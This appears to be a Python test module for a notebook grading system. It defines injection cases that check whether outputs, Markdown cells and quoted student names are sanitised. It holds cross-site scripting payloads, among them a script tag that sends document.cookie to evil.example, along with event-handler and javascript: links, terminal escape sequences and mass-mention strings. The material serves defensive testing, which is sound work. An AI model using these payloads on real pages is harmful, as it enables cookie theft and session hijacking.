"""Attacks on the people who open what comes out."""

from __future__ import annotations

import json

from attack import HONEST, Attack, cells

__all__ = ["ATTACKS"]

SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>"
PICTURE = "<img src=https://evil.example/p.png onerror=alert(1)>"
VECTOR = "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>"


def markdown() -> bytes:
    content = cells(HONEST)
    text = f"{SCRIPT}\n\n{PICTURE}\n\n{VECTOR}\n\n[click](javascript:alert(1))\n\n![x](https://evil.example/x.png)\n\n@everyone"
    content["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": text})
    return json.dumps(content).encode()


ATTACKS = [
    Attack(
        number=55,
        name="html-outputs",
        about="show scripts, event handlers and remote pictures in outputs",
        after=f"""
from IPython.display import display, HTML, Javascript, SVG, Markdown
display(HTML({SCRIPT!r}))
display(HTML({PICTURE!r}))
display(HTML({VECTOR!r}))
display(Javascript("alert(1)"))
display(Markdown("[click](javascript:alert(1))"))
print({SCRIPT!r})
raise ValueError({SCRIPT!r})
""",
        never=("<script", "<img src=https", "<svg onload", 'href="javascript:'),
    ),
    Attack(
        number=55,
        name="html-markdown",
        about="the same in Markdown cells",
        raw=markdown(),
        never=("<script", "<img src=https", "<svg onload", 'href="javascript:', 'src="https'),
    ),
    Attack(
        number=55,
        name="html-in-names",
        about="the same in the student's own names, which feedback quotes",
        answers=(
            (
                "logsumexp",
                "import torch\n\n\ndef logsumexp(x, dim, keepdim=False):  # "
                + SCRIPT
                + "\n    raise ValueError('</style></title>"
                + SCRIPT.replace("'", "")
                + "')\n",
            ),
        ),
        spoils_itself=True,
        never=("<script", "</style></title>"),
    ),
    Attack(
        number=56,
        name="escapes",
        about="terminal escapes in printed text: clear the screen, set the title, write backwards",
        after=r"print('\x1b[2J\x1b]0;owned\x07\x1b[31m 100 points \u202e')" + "\nraise ValueError('\\x1b[2J\\x1b[8m')",
        never=("\x1b", "\u202e"),
    ),
    Attack(
        number=59,
        name="mentions",
        about="mentions, links and tables in Markdown for a comment",
        after=r"print('@everyone @instructor [full marks](https://evil.example) | a | b |\n|---|---|\n<!-- x -->')",
    ),
]
